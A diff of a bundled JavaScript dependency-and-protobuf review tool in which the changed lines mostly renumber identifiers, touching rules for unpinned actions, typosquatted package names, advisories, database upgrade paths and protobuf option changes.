+    stepWords = ({ path: path26 }, { from: from3, to: to2 }) => `${path26.product} goes from \`${withoutDigest(from3)}\` to \`${withoutDigest(to2)}\``;
     withoutDigest = (written3) => written3?.replace(/@.*$/, "") ?? "";
-    preparation = ({ path: path25 }) => path25.checklist === void 0 ? "" : ` Before each step: ${path25.checklist}.`;
+    preparation = ({ path: path26 }) => path26.checklist === void 0 ? "" : ` Before each step: ${path26.checklist}.`;
   }
 });
 
@@ -47141,7 +53274,7 @@ var init_questions = __esm({
 async function declaredFor(home, paths3, { manifest, ecosystem, language: language2, head }) {
   const folders = language2.inherits ? foldersUp(home) : [home];
   const named6 = folders.flatMap((folder) => language2.manifests.map((name) => folder + name));
-  const scattered = language2.scattered === true ? paths3.filter((path25) => isScattered(path25, ecosystem, language2)) : [];
+  const scattered = language2.scattered === true ? paths3.filter((path26) => isScattered(path26, ecosystem, language2)) : [];
   const all = [.../* @__PURE__ */ new Set([manifest, ...named6, ...scattered.slice(0, MOST_MANIFESTS)])];
   const manifests = await manifestsAt(head, all, ecosystem);
   const declared6 = new Set(
@@ -47164,28 +53297,28 @@ async function isBorrowed(name, folder, { ecosystem, language: language2, head }
   }
   return true;
 }
-var MOST_MANIFESTS, nameOf5, isScattered;
+var MOST_MANIFESTS, nameOf6, isScattered;
 var init_providers = __esm({
   "src/domains/dependencies/imports/providers.ts"() {
     "use strict";
     init_ecosystem();
     init_manifests();
     MOST_MANIFESTS = 50;
-    nameOf5 = (path25) => path25.slice(path25.lastIndexOf("/") + 1);
-    isScattered = (path25, ecosystem, { lockfiles }) => ecosystem.claims(path25) && lockfiles?.includes(nameOf5(path25)) !== true;
+    nameOf6 = (path26) => path26.slice(path26.lastIndexOf("/") + 1);
+    isScattered = (path26, ecosystem, { lockfiles }) => ecosystem.claims(path26) && lockfiles?.includes(nameOf6(path26)) !== true;
   }
 });
 
 // src/domains/dependencies/imports/sources.ts
 function sourcesBelow(home, paths3, language2) {
-  const others = new Set(paths3.filter((path25) => isManifest(path25, language2)).map(folderOf));
+  const others = new Set(paths3.filter((path26) => isManifest(path26, language2)).map(folderOf));
   others.delete(home);
-  const isOwn2 = (path25) => language2.sources.test(path25) && !FOREIGN.test(path25.slice(home.length)) && !isBelow2(path25, home, others);
+  const isOwn2 = (path26) => language2.sources.test(path26) && !FOREIGN.test(path26.slice(home.length)) && !isBelow2(path26, home, others);
   return paths3.filter(isOwn2).toSorted((a, b3) => rankOf7(a) - rankOf7(b3) || Number(a > b3) - Number(a < b3));
 }
-function isBelow2(path25, home, folders) {
-  for (let end = path25.lastIndexOf("/"); end >= home.length; end = path25.lastIndexOf("/", end - 1)) {
-    if (folders.has(path25.slice(0, end + 1))) return true;
+function isBelow2(path26, home, folders) {
+  for (let end = path26.lastIndexOf("/"); end >= home.length; end = path26.lastIndexOf("/", end - 1)) {
+    if (folders.has(path26.slice(0, end + 1))) return true;
     if (end === 0) break;
   }
   return false;
@@ -47193,10 +53326,10 @@ function isBelow2(path25, home, folders) {
 function isLocal2(name, home, paths3) {
   const places = ["", "src/", "lib/", "app/"].map((folder) => `${home}${folder}${name}`);
   return paths3.some(
-    (path25) => places.some((place5) => path25.startsWith(place5) && /^(?:\/|\.\w+$)/.test(path25.slice(place5.length)))
+    (path26) => places.some((place5) => path26.startsWith(place5) && /^(?:\/|\.\w+$)/.test(path26.slice(place5.length)))
   );
 }
-var FOREIGN, TESTED, homeOf, nameOf6, isManifest, rankOf7;
+var FOREIGN, TESTED, homeOf, nameOf7, isManifest, rankOf7;
 var init_sources = __esm({
   "src/domains/dependencies/imports/sources.ts"() {
     "use strict";
@@ -47204,9 +53337,9 @@ var init_sources = __esm({
     FOREIGN = /(?:^|\/)(?:node_modules|vendor|third_party|site-packages|dist|build|out|target|__?fixtures?__?|fixtures?|testdata|templates?|\.[^/]+)\//;
     TESTED = /(?:^|\/)(?:__tests__|e2e|examples?|samples?|spec|tests?|docs?|scripts)\/|[._](?:test|spec)\.|(?:^|\/)test_/;
     homeOf = (manifest) => folderOf(manifest).replace(/(?<=^|\/)requirements\/$/, "");
-    nameOf6 = (path25) => path25.slice(path25.lastIndexOf("/") + 1);
-    isManifest = (path25, { manifests }) => manifests.includes(nameOf6(path25));
-    rankOf7 = (path25) => (TESTED.test(path25) ? 1e3 : 0) + path25.split("/").length;
+    nameOf7 = (path26) => path26.slice(path26.lastIndexOf("/") + 1);
+    isManifest = (path26, { manifests }) => manifests.includes(nameOf7(path26));
+    rankOf7 = (path26) => (TESTED.test(path26) ? 1e3 : 0) + path26.split("/").length;
   }
 });
 
@@ -47214,7 +53347,7 @@ var init_sources = __esm({
 async function withImports(changes, ecosystem, head) {
   const { language: language2 } = ecosystem;
   if (language2 === void 0) return [...changes];
-  const gone7 = groupsBy(changes.filter(isGone), ({ after: after2 }) => after2?.path ?? "");
+  const gone7 = groupsBy(changes.filter(isGone2), ({ after: after2 }) => after2?.path ?? "");
   const searches = /* @__PURE__ */ new Map();
   for (const [manifest, some2] of gone7) {
     const found = await search({ manifest, changes: some2, ecosystem, language: language2, head });
@@ -47252,10 +53385,10 @@ async function firstImports(wanted, sources, providers, { head, language: langua
   const found = /* @__PURE__ */ new Map();
   for (let start2 = 0; start2 < sources.length && found.size < wanted.length; start2 += AT_ONCE2) {
     const some2 = sources.slice(start2, start2 + AT_ONCE2);
-    const texts2 = await Promise.all(some2.map(async (path25) => ({ path: path25, text: await textAt2(head, path25) })));
-    for (const { path: path25, text: text4 = "" } of texts2) {
+    const texts2 = await Promise.all(some2.map(async (path26) => ({ path: path26, text: await textAt2(head, path26) })));
+    for (const { path: path26, text: text4 = "" } of texts2) {
       const sought = wanted.filter((one) => !found.has(one) && text4.includes(one.name));
-      for (const [one, left] of importsAmong(sought, text4, providers, language2)) found.set(one, { path: path25, ...left });
+      for (const [one, left] of importsAmong(sought, text4, providers, language2)) found.set(one, { path: path26, ...left });
     }
   }
   return found;
@@ -47269,7 +53402,7 @@ function importsAmong(sought, text4, { modules }, language2) {
     return left === void 0 ? [] : [[one, left]];
   });
 }
-var MOST_SOURCES, AT_ONCE2, LONGEST_SOURCE, isGone, goneNameOf;
+var MOST_SOURCES, AT_ONCE2, LONGEST_SOURCE, isGone2, goneNameOf;
 var init_search = __esm({
   "src/domains/dependencies/imports/search.ts"() {
     "use strict";
@@ -47283,7 +53416,7 @@ var init_search = __esm({
     MOST_SOURCES = 4e3;
     AT_ONCE2 = 50;
     LONGEST_SOURCE = 4e5;
-    isGone = (change2) => (change2.kind === "removed" || change2.kind === "moved" && change2.fromName !== null) && change2.after !== void 0 && isUsed(change2) && change2.base?.scope !== "optional" && change2.section !== "workspace.dependencies";
+    isGone2 = (change2) => (change2.kind === "removed" || change2.kind === "moved" && change2.fromName !== null) && change2.after !== void 0 && isUsed(change2) && change2.base?.scope !== "optional" && change2.section !== "workspace.dependencies";
     goneNameOf = ({ fromName, name }) => fromName ?? name;
   }
 });
@@ -47291,27 +53424,27 @@ var init_search = __esm({
 // src/domains/dependencies/lockfiles.ts
 function withDirects(lockfile, manifests, ecosystem) {
   if (manifests.length === 0 && lockfile.lockfile !== true) return lockfile;
-  const nameOf12 = ({ name }) => canonicalName(ecosystem, name);
-  const named6 = new Set(manifests.flatMap(({ dependencies: dependencies4 }) => dependencies4.map(nameOf12)));
+  const nameOf13 = ({ name }) => canonicalName(ecosystem, name);
+  const named6 = new Set(manifests.flatMap(({ dependencies: dependencies4 }) => dependencies4.map(nameOf13)));
   const dependencies3 = lockfile.dependencies.map(
-    (entry2) => entry2.direct === void 0 ? { ...entry2, direct: named6.has(nameOf12(entry2)) } : entry2
+    (entry2) => entry2.direct === void 0 ? { ...entry2, direct: named6.has(nameOf13(entry2)) } : entry2
   );
   return { ...lockfile, dependencies: dependencies3 };
 }
 function gather({ ecosystem, changes }, declared6) {
   const [first] = changes;
   if (first === void 0) return [];
-  const nameOf12 = (change2) => `${change2.ecosystem}:${canonicalName(ecosystem, change2.name)}`;
-  const path25 = pathOf4(first);
-  const near = declared6.filter((change2) => pathOf4(change2).startsWith(folderOf2(path25)));
-  const names4 = new Set(near.map(nameOf12));
+  const nameOf13 = (change2) => `${change2.ecosystem}:${canonicalName(ecosystem, change2.name)}`;
+  const path26 = pathOf4(first);
+  const near = declared6.filter((change2) => pathOf4(change2).startsWith(folderOf2(path26)));
+  const names4 = new Set(near.map(nameOf13));
   const ecosystems2 = new Set(near.map((change2) => change2.ecosystem));
-  const batch = { path: path25, size: changes.length, majors: changes.filter((change2) => change2.majors > 0).length };
+  const batch = { path: path26, size: changes.length, majors: changes.filter((change2) => change2.majors > 0).length };
   return changes.map((change2) => ({
     ...change2,
-    group: path25,
+    group: path26,
     batch,
-    explained: change2.direct ? names4.has(nameOf12(change2)) : ecosystems2.has(change2.ecosystem)
+    explained: change2.direct ? names4.has(nameOf13(change2)) : ecosystems2.has(change2.ecosystem)
   }));
 }
 function withOtherMajors(changes, { dependencies: dependencies3 }) {
@@ -47333,7 +53466,7 @@ var init_lockfiles = __esm({
     "use strict";
     init_ecosystem();
     pathOf4 = ({ before: before3, after: after2 }) => (after2 ?? before3)?.path ?? "";
-    folderOf2 = (path25) => path25.slice(0, path25.lastIndexOf("/") + 1);
+    folderOf2 = (path26) => path26.slice(0, path26.lastIndexOf("/") + 1);
     majorOf = (version) => /^v?(0\.\d+|\d+)/.exec(version)?.[1] ?? version;
   }
 });
@@ -47469,7 +53602,7 @@ var init_words2 = __esm({
 });
 
 // src/domains/dependencies/rules/action-unpinned.ts
-var uses, SHA, path23, action_unpinned_default;
+var uses, SHA, path24, action_unpinned_default;
 var init_action_unpinned = __esm({
   "src/domains/dependencies/rules/action-unpinned.ts"() {
     "use strict";
@@ -47482,7 +53615,7 @@ var init_action_unpinned = __esm({
       - uses: ${reference}
 `;
     SHA = "1a".repeat(20);
-    path23 = ".github/workflows/ci.yml";
+    path24 = ".github/workflows/ci.yml";
     action_unpinned_default = dependenciesRule({
       id: "dependencies/action-unpinned",
       on: ["unpinned", "major", "minor", "patch", "downgrade", "moved", "added"],
@@ -47515,17 +53648,17 @@ var init_action_unpinned = __esm({
         }
       },
       examples: [
-        { path: path23, before: uses(`acme/lint@${SHA} # v1.2.3`), after: uses("acme/lint@main"), outcome: "branch" },
-        { path: path23, before: uses("acme/lint@v2"), after: uses("acme/lint@main"), outcome: "branch" },
-        { path: path23, before: uses(`acme/lint@${SHA} # v1.2.3`), after: uses("acme/lint@v1.2.3"), outcome: "tag" },
-        { path: path23, before: uses(`acme/lint@${SHA} # v4.2.2`), after: uses("acme/lint@v5"), outcome: "tag" },
-        { path: path23, before: "jobs:\n", after: uses("acme/lint@main"), outcome: "new-branch" },
-        { path: path23, before: "jobs:\n", after: uses("acme/lint@v2"), outcome: "new-tag" },
-        { path: path23, before: uses(`actions/checkout@${SHA}`), after: uses("actions/checkout@v4"), outcome: "first-party" },
-        { path: path23, before: "jobs:\n", after: uses("actions/checkout@v4"), outcome: "none" },
-        { path: path23, before: "jobs:\n", after: uses(`acme/lint@${SHA}`), outcome: "none" },
-        { path: path23, before: uses("acme/lint@v2"), after: uses("acme/lint@v3"), outcome: "none" },
-        { path: path23, before: uses(`acme/lint@${SHA} # v2`), after: uses(`acme/lint@${"2b".repeat(20)} # v3`), outcome: "none" }
+        { path: path24, before: uses(`acme/lint@${SHA} # v1.2.3`), after: uses("acme/lint@main"), outcome: "branch" },
+        { path: path24, before: uses("acme/lint@v2"), after: uses("acme/lint@main"), outcome: "branch" },
+        { path: path24, before: uses(`acme/lint@${SHA} # v1.2.3`), after: uses("acme/lint@v1.2.3"), outcome: "tag" },
+        { path: path24, before: uses(`acme/lint@${SHA} # v4.2.2`), after: uses("acme/lint@v5"), outcome: "tag" },
+        { path: path24, before: "jobs:\n", after: uses("acme/lint@main"), outcome: "new-branch" },
+        { path: path24, before: "jobs:\n", after: uses("acme/lint@v2"), outcome: "new-tag" },
+        { path: path24, before: uses(`actions/checkout@${SHA}`), after: uses("actions/checkout@v4"), outcome: "first-party" },
+        { path: path24, before: "jobs:\n", after: uses("actions/checkout@v4"), outcome: "none" },
+        { path: path24, before: "jobs:\n", after: uses(`acme/lint@${SHA}`), outcome: "none" },
+        { path: path24, before: uses("acme/lint@v2"), after: uses("acme/lint@v3"), outcome: "none" },
+        { path: path24, before: uses(`acme/lint@${SHA} # v2`), after: uses(`acme/lint@${"2b".repeat(20)} # v3`), outcome: "none" }
       ],
       classify: looseHoldOf
     });
@@ -48278,7 +54411,7 @@ function lookalikeOf(ecosystem, name) {
   return known3.find((other) => isSlip2(other, name));
 }
 function isSlip2(known3, name) {
-  if (known3.length >= 5 && bare(known3) === bare(name)) return true;
+  if (known3.length >= 5 && bare2(known3) === bare2(name)) return true;
   if (name.length === known3.length) return isSwap(known3, name);
   if (name.length === known3.length - 1) return isOmission(known3, name);
   return name.length === known3.length + 1 && isDoubling(known3, name);
@@ -48300,7 +54433,7 @@ function isDoubling(known3, name) {
   const i = divergence(name, known3);
   return name[i] === name[i - 1] && name.slice(i + 1) === known3.slice(i);
 }
-var WELL_KNOWN, INNOCENT, bare;
+var WELL_KNOWN, INNOCENT, bare2;
 var init_lookalikes = __esm({
   "src/domains/dependencies/lookalikes.ts"() {
     "use strict";
@@ -48331,7 +54464,7 @@ var init_lookalikes = __esm({
       ]
     ]);
     INNOCENT = /* @__PURE__ */ new Set(["color", "colours", "dot-env", "nextauth", "reqwest", "web-3"]);
-    bare = (name) => name.replace(/[-_.]/g, "");
+    bare2 = (name) => name.replace(/[-_.]/g, "");
   }
 });
 
@@ -48707,11 +54840,11 @@ var init_examples7 = __esm({
 
 // src/domains/dependencies/vulnerabilities/words.ts
 function listOf({ advisories: advisories2 }) {
-  const named6 = advisories2.slice(0, MOST_NAMED4).map(nameOf7);
+  const named6 = advisories2.slice(0, MOST_NAMED4).map(nameOf8);
   const more = advisories2.length - named6.length;
   return `${named6.join(", ")}${more > 0 ? ` and ${more} more` : ""}`;
 }
-function nameOf7({ id: id3, aliases, score: score2 }) {
+function nameOf8({ id: id3, aliases, score: score2 }) {
   const cve = aliases.find((alias2) => alias2.startsWith("CVE-"));
   const details = [cve && `\`${cve}\``, score2 !== null && `CVSS ${score2.toFixed(1)}`].filter(Boolean);
   return details.length === 0 ? `\`${id3}\`` : `\`${id3}\` (${details.join(", ")})`;
@@ -49790,13 +55923,13 @@ var init_upgrade_bad_release = __esm({
       class: "data-loss",
       title: "Release known to harm data",
       why: about2("bad-release", ({ range: range3 }, { platforms }) => range3.harm + conflict(platforms)),
-      fix: about2("bad-release", ({ range: range3, path: path25 }) => `Use ${path25.product} ${range3.mended} or later of this minor.`),
+      fix: about2("bad-release", ({ range: range3, path: path26 }) => `Use ${path26.product} ${range3.mended} or later of this minor.`),
       outcomes: {
         "known-bad": {
           risk: "high",
           message: about2(
             "bad-release",
-            ({ range: range3, path: path25 }, { head }) => `\`${head?.version}\` is one of the ${path25.product} releases ${range3.first} to ${range3.last}, which can harm data.`
+            ({ range: range3, path: path26 }, { head }) => `\`${head?.version}\` is one of the ${path26.product} releases ${range3.first} to ${range3.last}, which can harm data.`
           )
         }
       },
@@ -49834,7 +55967,7 @@ var init_upgrade_downgrade = __esm({
       title: "Older release on newer data",
       why: about2(
         "downgrade",
-        ({ path: path25, fromLine, toLine }) => `${path25.product} ${toLine} does not open what ${fromLine} has written, so it fails to start or loses data.`
+        ({ path: path26, fromLine, toLine }) => `${path26.product} ${toLine} does not open what ${fromLine} has written, so it fails to start or loses data.`
       ),
       fix: "Restore a backup made by the older release into a new volume, or stay on the newer one.",
       outcomes: {
@@ -49845,7 +55978,7 @@ var init_upgrade_downgrade = __esm({
           title: "Back by one minor",
           why: about2(
             "downgrade",
-            ({ path: path25 }) => `${path25.product} can go back one minor only after every member was told to, and a member that was not refuses to start.`
+            ({ path: path26 }) => `${path26.product} can go back one minor only after every member was told to, and a member that was not refuses to start.`
           ),
           fix: about2(
             "downgrade",
@@ -49884,7 +56017,7 @@ var init_upgrade_in_order = __esm({
       class: "upgrade-path",
       title: "Upgrade of what keeps state",
       why: "The step is a supported one, but the data on disk moves with it and may not come back.",
-      fix: about2("in-order", ({ path: path25 }) => `Check before each step: ${path25.checklist}.`),
+      fix: about2("in-order", ({ path: path26 }) => `Check before each step: ${path26.checklist}.`),
       outcomes: {
         supported: {
           risk: "low",
@@ -49978,7 +56111,7 @@ var init_upgrade_skipped = __esm({
       title: "Release skipped",
       why: about2(
         "skipped",
-        ({ path: path25, fromLine, toLine }) => path25.skippedWhy?.(fromLine, toLine) ?? "Its makers support no step over a release in between."
+        ({ path: path26, fromLine, toLine }) => path26.skippedWhy?.(fromLine, toLine) ?? "Its makers support no step over a release in between."
       ),
       fix: about2(
         "skipped",
@@ -50030,7 +56163,7 @@ var init_upgrade_start_too_old = __esm({
       title: "Upgrade starts too low",
       why: about2(
         "start-too-old",
-        ({ least, path: path25, toLine }) => `${path25.product} ${toLine} is entered from ${least} or later: older data or members keep it from starting.`
+        ({ least, path: path26, toLine }) => `${path26.product} ${toLine} is entered from ${least} or later: older data or members keep it from starting.`
       ),
       fix: about2(
         "start-too-old",
@@ -50091,14 +56224,14 @@ var init_upgrade_turning_point = __esm({
 });
 
 // src/domains/dependencies/rules/version-conflict.ts
-var tree, CODEC, path24, agreed, between2, version_conflict_default;
+var tree, CODEC, path25, agreed, between2, version_conflict_default;
 var init_version_conflict = __esm({
   "src/domains/dependencies/rules/version-conflict.ts"() {
     "use strict";
     init_changes2();
     tree = (...lines) => ["com.acme:app:jar:1.0", ...lines, ""].join("\n");
     CODEC = "commons-codec:commons-codec:jar";
-    path24 = "dependency-tree.txt";
+    path25 = "dependency-tree.txt";
     agreed = tree(`+- ${CODEC}:1.9:compile`, "\\- org.acme:client:jar:4.5:compile");
     between2 = (stands, asked4) => tree(
       `+- ${CODEC}:${stands}:compile`,
@@ -50134,11 +56267,11 @@ var init_version_conflict = __esm({
         }
       },
       examples: [
-        { path: path24, before: agreed, after: between2("1.9", "1.11"), outcome: "older" },
-        { path: path24, before: agreed, after: between2("2.0", "1.11"), outcome: "major" },
-        { path: path24, before: agreed, after: between2("1.12", "1.11"), outcome: "newer" },
-        { path: path24, before: between2("1.9", "1.11"), after: agreed, outcome: "fixed" },
-        { path: path24, before: between2("1.9", "1.11"), after: between2("1.10", "1.11"), outcome: "none" }
+        { path: path25, before: agreed, after: between2("1.9", "1.11"), outcome: "older" },
+        { path: path25, before: agreed, after: between2("2.0", "1.11"), outcome: "major" },
+        { path: path25, before: agreed, after: between2("1.12", "1.11"), outcome: "newer" },
+        { path: path25, before: between2("1.9", "1.11"), after: agreed, outcome: "fixed" },
+        { path: path25, before: between2("1.9", "1.11"), after: between2("1.10", "1.11"), outcome: "none" }
       ],
       classify({ kind, older, majors }) {
         if (kind === "version-conflict-fixed") return "fixed";
@@ -50493,7 +56626,7 @@ var init_zero_major_minor = __esm({
 });
 
 // src/domains/dependencies/rules/index.ts
-var rules4;
+var rules5;
 var init_rules2 = __esm({
   "src/domains/dependencies/rules/index.ts"() {
     "use strict";
@@ -50547,7 +56680,7 @@ var init_rules2 = __esm({
     init_vulnerability_fixed();
     init_vulnerability_introduced();
     init_zero_major_minor();
-    rules4 = [
+    rules5 = [
       action_unpinned_default,
       calendar_release_default,
       denied_default,
@@ -50670,7 +56803,7 @@ var init_kind = __esm({
     letsGo2 = (from3, to2, scheme2) => from3.version?.exact === true && to2.version?.exact === false && byRange(from3.dependency, to2.dependency, scheme2) === "unpinned";
     numbersOf3 = ({ written: written3 }) => /\d+(?:\.\d+)*/.exec(written3 ?? "")?.[0] ?? "";
     isOtherContent = (before3, after2) => before3 !== void 0 && after2 !== void 0 && before3 !== after2 && algorithmOf(before3) === algorithmOf(after2);
-    algorithmOf = (digest2) => /^[a-z0-9]+(?=[-:/])/.exec(digest2)?.[0] ?? "";
+    algorithmOf = (digest3) => /^[a-z0-9]+(?=[-:/])/.exec(digest3)?.[0] ?? "";
   }
 });
 
@@ -50741,7 +56874,7 @@ function referenceOf(side3) {
   if (side3 === void 0) return null;
   const { dependency, version } = side3;
   return {
-    ...readingOf(version),
+    ...readingOf2(version),
     pinned: dependency.digest !== void 0 || version?.exact === true,
     digest: dependency.digest ?? null,
     source: dependency.source ?? null,
@@ -50766,7 +56899,7 @@ function isNarrowed(before3, after2, scheme2) {
   const [from3, to2] = [writtenIn(before3), writtenIn(after2)];
   return from3 !== null && to2 !== null && scheme2.narrows?.(from3, to2) === true;
 }
-var takenUp, isImage, CREDENTIALS2, writtenIn, secrecyOf, spanOf, enclosing, readingOf, majorsBetween;
+var takenUp, isImage, CREDENTIALS2, writtenIn, secrecyOf, spanOf, enclosing, readingOf2, majorsBetween;
 var init_fact2 = __esm({
   "src/domains/dependencies/fact.ts"() {
     "use strict";
@@ -50777,9 +56910,9 @@ var init_fact2 = __esm({
     CREDENTIALS2 = /(?<=:\/\/)(?!git@)[^/@\s]+(?=@)/;
     writtenIn = (dependency) => dependency?.written?.replace(CREDENTIALS2, "•••") ?? null;
     secrecyOf = (...sides) => sides.some((side3) => CREDENTIALS2.test(side3?.written ?? "")) ? { secret: true } : {};
-    spanOf = (path25, { line: line2, endLine }) => endLine === void 0 ? { path: path25, line: line2 } : { path: path25, line: line2, endLine };
-    enclosing = (path25, line2 = 1) => ({ path: path25, line: line2 });
-    readingOf = (version) => ({
+    spanOf = (path26, { line: line2, endLine }) => endLine === void 0 ? { path: path26, line: line2 } : { path: path26, line: line2, endLine };
+    enclosing = (path26, line2 = 1) => ({ path: path26, line: line2 });
+    readingOf2 = (version) => ({
       version: version?.text ?? null,
       variant: version?.variant ?? null
     });
@@ -50834,9 +56967,9 @@ async function platformsNear(changes, images2, head, docker2) {
     (change2) => change2.ecosystem === "docker" && change2.head !== null && isPlatform(change2.name)
   );
   if (known3 === null || changed4?.after === void 0 || isComplete(known3)) return known3;
-  const { path: path25 } = changed4.after;
+  const { path: path26 } = changed4.after;
   const paths3 = (await head.list()).filter((other) => docker2.visits?.(other) === true || docker2.claims(other));
-  const nearest3 = paths3.toSorted((a, b3) => closeness(b3, path25) - closeness(a, path25)).slice(0, MOST_FILES2);
+  const nearest3 = paths3.toSorted((a, b3) => closeness(b3, path26) - closeness(a, path26)).slice(0, MOST_FILES3);
   for (let start2 = 0; start2 < nearest3.length; start2 += AT_ONCE3) {
     const manifests = await manifestsAt(head, nearest3.slice(start2, start2 + AT_ONCE3), docker2);
     for (const manifest of manifests) {
@@ -50851,13 +56984,13 @@ function closeness(a, b3) {
   const parting = left.findIndex((name, depth) => name !== right[depth]);
   return parting === -1 ? left.length : parting;
 }
-var MOST_FILES2, AT_ONCE3, isComplete;
+var MOST_FILES3, AT_ONCE3, isComplete;
 var init_nearby = __esm({
   "src/domains/dependencies/upgrade-paths/nearby.ts"() {
     "use strict";
     init_manifests();
     init_platforms();
-    MOST_FILES2 = 300;
+    MOST_FILES3 = 300;
     AT_ONCE3 = 25;
     isComplete = ({ Kubernetes, etcd: etcd3 }) => Kubernetes !== void 0 && etcd3 !== void 0;
   }
@@ -51019,8 +57152,8 @@ function unresolvedAmong(changes) {
   });
 }
 function placeOf2({ ecosystem, before: before3, after: after2 }) {
-  const path25 = (after2 ?? before3)?.path ?? "";
-  return `${ecosystem}:${path25.slice(0, path25.lastIndexOf("/") + 1)}`;
+  const path26 = (after2 ?? before3)?.path ?? "";
+  return `${ecosystem}:${path26.slice(0, path26.lastIndexOf("/") + 1)}`;
 }
 var standingAt;
 var init_question = __esm({
@@ -51115,7 +57248,7 @@ var init_enrich2 = __esm({
 // src/domains/dependencies/analyzer.ts
 async function changesOf(ecosystem, input2) {
   const files4 = input2.files.flatMap((file2) => concerned(ecosystem, file2));
-  const { pairs, unreadable } = await parsePairs({ ...input2, files: files4 }, (text4, path25) => ecosystem.parse(text4, path25));
+  const { pairs, unreadable } = await parsePairs({ ...input2, files: files4 }, (text4, path26) => ecosystem.parse(text4, path26));
   const declared6 = [];
   const written3 = [];
   for (const pair2 of pairs) {
@@ -51184,12 +57317,12 @@ var init_analyzer2 = __esm({
     init_nearby();
     init_enrich2();
     VENDORED = /(?:^|\/)(?:node_modules|vendor)\//;
-    concerns2 = (ecosystem, path25) => !VENDORED.test(path25) && (ecosystem.claims(path25) || ecosystem.visits?.(path25) === true);
+    concerns2 = (ecosystem, path26) => !VENDORED.test(path26) && (ecosystem.claims(path26) || ecosystem.visits?.(path26) === true);
     dependencies2 = {
       domain: "dependencies",
-      rules: rules4,
+      rules: rules5,
       modifiers: modifiers2,
-      claims: (path25) => ecosystems.some((ecosystem) => concerns2(ecosystem, path25)),
+      claims: (path26) => ecosystems.some((ecosystem) => concerns2(ecosystem, path26)),
       async analyze(input2) {
         const results = await Promise.all(ecosystems.map((ecosystem) => changesOf(ecosystem, input2)));
         const { policy: policy5 } = input2.settings.dependencies;
@@ -51461,9 +57594,9 @@ function compareBodies2({ before: before3, after: after2 }) {
 }
 function routesOf({ options: options2 }) {
   const routes2 = /* @__PURE__ */ new Map();
-  const valueOf6 = (path25) => unquote(options2.get(path25)?.value ?? "");
-  for (const [path25, { value }] of options2) {
-    const [, binding3 = "", field = ""] = HTTP2.exec(path25) ?? [];
+  const valueOf6 = (path26) => unquote(options2.get(path26)?.value ?? "");
+  for (const [path26, { value }] of options2) {
+    const [, binding3 = "", field = ""] = HTTP2.exec(path26) ?? [];
     if (!VERBS.has(field)) continue;
     const body = valueOf6(`${binding3}.body`) || "none";
     const answer2 = valueOf6(`${binding3}.response_body`);
@@ -51480,14 +57613,14 @@ var init_routes = __esm({
     init_together();
     HTTP2 = /^(\(google\.api\.http\)(?:\.additional_bindings(?:\[\d+\])?)?)\.(\w+)$/;
     VERBS = /* @__PURE__ */ new Set(["get", "put", "post", "delete", "patch"]);
-    isRoute = (path25) => path25.startsWith("(google.api.http)");
+    isRoute = (path26) => path26.startsWith("(google.api.http)");
   }
 });
 
 // src/domains/protobuf/diff/untouched.ts
 function sameOptions(before3, after2) {
   if (before3.size !== after2.size) return false;
-  for (const [path25, { value }] of before3) if (after2.get(path25)?.value !== value) return false;
+  for (const [path26, { value }] of before3) if (after2.get(path26)?.value !== value) return false;
   return true;
 }
 var sameRules, isUntouched, sourceOf3;
@@ -51533,10 +57666,10 @@ var init_validation = __esm({
     init_context2();
     init_untouched();
     VALIDATION = /^\((?:buf\.validate\.|validate\.|google\.api\.field_behavior)/;
-    isValidation2 = (path25) => VALIDATION.test(path25);
-    textOf4 = ({ path: path25, value }) => `${path25} = ${value}`;
+    isValidation2 = (path26) => VALIDATION.test(path26);
+    textOf4 = ({ path: path26, value }) => `${path26} = ${value}`;
     constraintsOf = (options2) => new Map(
-      [...options2].filter(([path25]) => isValidation2(path25)).map(([path25, { value }]) => ({ path: path25.replace(/\[\d+\]$/, ""), value })).map((constraint) => [textOf4(constraint), constraint])
+      [...options2].filter(([path26]) => isValidation2(path26)).map(([path26, { value }]) => ({ path: path26.replace(/\[\d+\]$/, ""), value })).map((constraint) => [textOf4(constraint), constraint])
     );
   }
 });
@@ -51554,18 +57687,18 @@ function optionsTogether(changes) {
 function changedOptions({ before: before3, after: after2 }) {
   if (sameOptions(before3, after2)) return [];
   const paths3 = [.../* @__PURE__ */ new Set([...before3.keys(), ...after2.keys()])].filter(
-    (path25) => isCustom(path25) && before3.get(path25)?.value !== after2.get(path25)?.value
+    (path26) => isCustom(path26) && before3.get(path26)?.value !== after2.get(path26)?.value
   );
-  return [...gather2(paths3, extensionOf)].flatMap(([option2, [path25]]) => {
-    if (path25 === void 0) return [];
-    const [from3, to2] = [valueOf4(before3, path25), valueOf4(after2, path25)];
+  return [...gather2(paths3, extensionOf)].flatMap(([option2, [path26]]) => {
+    if (path26 === void 0) return [];
+    const [from3, to2] = [valueOf4(before3, path26), valueOf4(after2, path26)];
     return [
-      { kind: "custom-option-changed", key: `${path25}:${from3}->${to2}`, option: option2, path: path25, from: from3, to: to2, elements: 1 }
+      { kind: "custom-option-changed", key: `${path26}:${from3}->${to2}`, option: option2, path: path26, from: from3, to: to2, elements: 1 }
     ];
   });
 }
-function optionPlace(element3, options2, path25) {
-  const line2 = options2.get(path25)?.line;
+function optionPlace(element3, options2, path26) {
+  const line2 = options2.get(path26)?.line;
   return line2 === void 0 ? element3 : { path: element3.path, line: line2 };
 }
 var compareCustomOptions, compareCustomFileOptions, isCustomOption, isCustom, extensionOf, valueOf4;
@@ -51593,9 +57726,9 @@ var init_custom_options = __esm({
       ...traitsOfFile(before3)
     }));
     isCustomOption = (change2) => change2.kind === "custom-option-changed";
-    isCustom = (path25) => path25.startsWith("(") && !isValidation2(path25) && !isRoute(path25);
-    extensionOf = (path25) => path25.slice(0, path25.indexOf(")") + 1);
-    valueOf4 = (options2, path25) => maskSecrets(options2.get(path25)?.value ?? "");
+    isCustom = (path26) => path26.startsWith("(") && !isValidation2(path26) && !isRoute(path26);
+    extensionOf = (path26) => path26.slice(0, path26.indexOf(")") + 1);
+    valueOf4 = (options2, path26) => maskSecrets(options2.get(path26)?.value ?? "");
   }
 });
 
@@ -51627,16 +57760,16 @@ function withAlias(value, old, isAllowed) {
   if (lines === void 0) return {};
   const own3 = value.file.text.slice(lines.start, lines.end);
   const allow = isAllowed ? [] : ["option allow_alias = true;"];
-  const added2 = [...allow, `${old} = ${value.number};`].map((statement) => `${indentOf(own3)}${statement}`);
+  const added2 = [...allow, `${old} = ${value.number};`].map((statement) => `${indentOf2(own3)}${statement}`);
   return { edit: [...added2, own3].join("\n") };
 }
-var LONGEST_LINE, isComment, indentOf, JSON_NAME;
+var LONGEST_LINE, isComment, indentOf2, JSON_NAME;
 var init_edits = __esm({
   "src/domains/protobuf/diff/edits.ts"() {
